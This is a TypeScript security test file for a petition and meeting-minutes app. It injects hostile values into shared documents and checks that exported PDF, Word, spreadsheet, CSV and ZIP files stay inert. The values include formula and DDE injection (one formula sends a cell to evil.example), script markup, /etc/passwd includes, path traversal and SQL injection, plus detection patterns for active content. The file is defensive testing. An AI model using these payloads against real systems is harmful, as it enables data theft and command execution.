import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import * as Y from 'yjs';
import { roomName } from '../../shared/dialogue.ts';
import { raisePetition } from '../../shared/docs/board.ts';
import { bodyOf } from '../../shared/docs/minutes.ts';
import { addAttendee, setPetitioner } from '../../shared/docs/register.ts';
import { openPeer, type Peer } from '../e2e/peer.ts';
import { unpack } from '../server/documents/zip.ts';
import { Random } from '../server/relay/random.ts';
import { nested, spoil } from './hostile-documents.ts';
import { hostileStrings } from './hostile-values.ts';
import { openStand, type Stand, until } from './stand.ts';

/*
 * Everything that leaves a document after somebody wrote into it, by hand, what no page writes: every paper, table and
 * archive comes out, in time, and nothing in it runs, links to a script or lies outside its folder.
 */
const seed = Number(process.env.SEED ?? 20261126);
const changes = Number(process.env.FUZZ_CHANGES ?? 60);
const random = new Random(seed);

const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '+1+cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u200b=1+1',
  '＝1+1',
  '＠SUM(1)',
  '=DDE("cmd";"/C calc";"x")',
  'x\n=1+1',
  'a","=1+1',
  "'=1+1",
];
const markup = '<script>alert(1)</script><a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)>';
const typesetting =
  '#import "/etc/passwd"; #read("/etc/passwd") $x$ \\input{/etc/passwd} @ref <label> #link("javascript:x")[y]';

let stand: Stand;
let organizer = '';
let freeze = '';
const petitionIds = formulas.map((_, at) => `hostile${String(at).padStart(5, '0')}`);

async function writing(
  kind: 'minutes' | 'board' | 'register' | 'stage',
  write: (doc: Y.Doc) => void,
): Promise<void> {
  const peer = await openPeer(stand.server.url, organizer, roomName(stand.dialogueId, kind));
  write(peer.doc);
  for (let at = 0; at < changes; at++) spoil(peer.doc, random);
  peer.doc.getText('mark').insert(0, 'x');
  await until(`what was written in ${kind}`, async () => {
    const reader: Peer = await openPeer(stand.server.url, organizer, roomName(stand.dialogueId, kind));
    const whole = reader.doc.getText('mark').length === 1;
    reader.close();
    return whole;
  });
  peer.close();
}

beforeAll(async () => {
  stand = await openStand();
  organizer = await stand.enter('organizer');
  await writing('board', (doc) => {
    for (const [at, formula] of formulas.entries()) {
      const id = petitionIds[at] ?? '';
      raisePetition(doc, id, formula, '2026-11-26T02:00:00.000Z', {
        content: `${formula} ${at % 2 ? markup : typesetting}`,
        answer: formula,
        field: formula,
        unit: formula,
        village: formula,
        authority: at % 3 ? '' : `../../${formula}`,
      });
    }
  });
  await writing('register', (doc) => {
    for (const [at, formula] of formulas.entries()) {
      setPetitioner(doc, petitionIds[at] ?? '', { name: formula, phone: formula, address: markup });
      addAttendee(doc, {
        id: `attendee${at}`,
        name: formula,
        title: markup,
        village: formula,
        group: formula,
        category: 'other',
        phone: formula,
        present: true,
        walkIn: false,
        checkedInAt: '2026-11-26T02:00:00.000Z',
      });
    }
  });
  await writing('minutes', (doc) => {
    const body = bodyOf(doc);
    for (const tag of ['bulletList', 'table', 'paragraph', 'script']) body.push([nested(100, tag)]);
    const paragraph = new Y.XmlElement('paragraph');
    paragraph.insert(0, [
      new Y.XmlText(
        `${markup} ${typesetting} ${hostileStrings.map((text) => text.slice(0, 100).toWellFormed()).join(' ')}`,
      ),
    ]);
    paragraph.setAttribute('style', 'x'.repeat(200_000));
    body.push([paragraph]);
  });
  await writing('stage', () => undefined);
  const { call, dialogueId } = stand;
  const office = (await (await call('GET', '/office')).json()) as object;
  await call('PUT', '/office', {
    ...office,
    body: `ỦY BAN ${markup.slice(0, 100)}`,
    place: '../../x',
    signerName: '=1+1',
  });
  freeze = ((await (await call('POST', `/dialogues/${dialogueId}/freezes`)).json()) as { id: string }).id;
});
afterAll(() => stand?.close());

const papers = () => [
  ...['notice', 'invitations', 'delegates', 'attendance', 'estimate'].map(
    (name) => `/dialogues/${stand.dialogueId}/documents/${name}`,
  ),
  ...['blankNote', 'conclusion'].map((name) => `/dialogues/${stand.dialogueId}/follow-up/${name}`),
  ...['note', 'reply'].map(
    (name) => `/dialogues/${stand.dialogueId}/petitions/${petitionIds[0]}/follow-up/${name}`,
  ),
  ...['minutes', 'report'].map((name) => `/freezes/${freeze}/documents/${name}`),
  '/years/2026/follow-up/progress',
];

/** A name that every system takes, and that stays in its folder. */
const safeName = /^[A-Za-z0-9_.-]+(\/[A-Za-z0-9_.-]+)*$/;

function checkDisposition(response: Response): void {
  const how = response.headers.get('content-disposition') ?? '';
  expect(how).toMatch(/^(attachment|inline); filename="[\w.-]+"$/);
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  expect(response.headers.get('content-security-policy')).toContain("default-src 'none'");
}

async function bytesOf(path: string): Promise<Uint8Array> {
  const response = await stand.call('GET', path);
  checkDisposition(response);
  return new Uint8Array(await response.arrayBuffer());
}

/** The parts of an Office file name no program, no address outside, and nothing to load. */
function checkOffice(bytes: Uint8Array, what: string): void {
  for (const [name, part] of unpack(bytes).files) {
    expect(name, what).toMatch(/^(\[Content_Types\]\.xml|[\w./-]+)$/);
    expect(name, what).not.toMatch(/\.\.|^\/|vbaProject|activeX|embeddings|externalLink/);
    if (!/\.(xml|rels)$/.test(name)) continue;
    const text = part.toString('utf8');
    expect(text, `${what} ${name}`).not.toMatch(
      /TargetMode="External"|<f[ >]|<script|ddeLink|<w:instrText[^>]*>[^<]*(DDE|INCLUDE|HYPERLINK)|<!DOCTYPE|<!ENTITY/i,
    );
  }
}

describe('after a hostile hand wrote into every document', () => {
  test('each paper comes out as PDF and Word, with nothing in it that acts', async () => {
    let [made, size] = [0, 0];
    for (const path of papers()) {
      const pdf = Buffer.from(await bytesOf(`${path}.pdf`));
      expect(pdf.subarray(0, 5).toString(), path).toBe('%PDF-');
      expect(pdf.toString('latin1'), path).not.toMatch(
        /\/(JavaScript|JS|Launch|OpenAction|AA|SubmitForm|ImportData|RichMedia|GoToR|URI)\b/,
      );
      const docx = await bytesOf(`${path}.docx`);
      checkOffice(docx, path);
      made += 2;
      size += pdf.length + docx.length;
    }
    process.stdout.write(
      `Hostile documents, seed ${seed}, ${changes} changes in each of 4: ${made} papers, ${size} bytes\n`,
    );
  }, 240_000);

  test('no cell of the tables is a formula', async () => {
    checkOffice(await bytesOf(`/freezes/${freeze}/petitions.xlsx`), 'xlsx');
    const text = Buffer.from(await bytesOf(`/freezes/${freeze}/petitions.csv`)).toString('utf8');
    const cells = readCsv(text);
    expect(cells.length).toBeGreaterThan(formulas.length);
    expect(
      cells.flat().filter((cell) => /^\s*[=+\-@＝＋－＠]/u.test(cell.replace(/[\u200b\ufeff]/g, ''))),
    ).toEqual([]);
    // And what was written is still there to be read.
    expect(text).toContain("'=HYPERLINK(");
  });

  test('the archive stays in its folder, its names are plain, its tables and documents safe', async () => {
    const zip = await bytesOf(`/freezes/${freeze}/session.zip`);
    const { files } = unpack(zip);
    expect(files.size).toBeGreaterThan(10);
    for (const [name, bytes] of files) {
      expect(name).toMatch(safeName);
      expect(name).not.toMatch(/(^|\/)\.\.?(\/|$)/);
      if (/\.(docx|xlsx)$/.test(name)) checkOffice(bytes, name);
      if (name.endsWith('.csv'))
        expect(
          readCsv(bytes.toString('utf8'))
            .flat()
            .filter((cell) => /^\s*[=+\-@]/.test(cell)),
          name,
        ).toEqual([]);
    }
  }, 240_000);

  test('the open JSON and the record are JSON, sent as files', async () => {
    for (const path of ['session.json', 'record.json']) {
      const value: unknown = JSON.parse(
        Buffer.from(await bytesOf(`/freezes/${freeze}/${path}`)).toString('utf8'),
      );
      expect(typeof value).toBe('object');
      expect(({} as Record<string, unknown>).name).toBeUndefined();
    }
  });

  test('search finds it as text, and is quick', async () => {
    for (const q of [
      'script alert',
      '=HYPERLINK',
      "' OR 1=1 --",
      '"*',
      'NEAR(a b)',
      '%',
      ...hostileStrings.slice(0, 12),
    ]) {
      const from = performance.now();
      const response = await stand.call('GET', `/search?q=${encodeURIComponent(q.toWellFormed())}`);
      expect(response.headers.get('content-type')).toContain('application/json');
      await response.json();
      expect(performance.now() - from, q).toBeLessThan(5_000);
    }
  });

  test('the log tells no error and none of it', () => {
    const output = stand.server.output();
    expect(
      output
        .split('\n')
        .filter((line) => line.includes('"level":50'))
        .map((line) => line.slice(0, 400)),
    ).toEqual([]);
    expect(output).not.toContain('HYPERLINK');
  });
});

/** The cells of a CSV text (RFC 4180), as a spreadsheet reads them. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text
    .replace(/^\ufeff/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows;
}
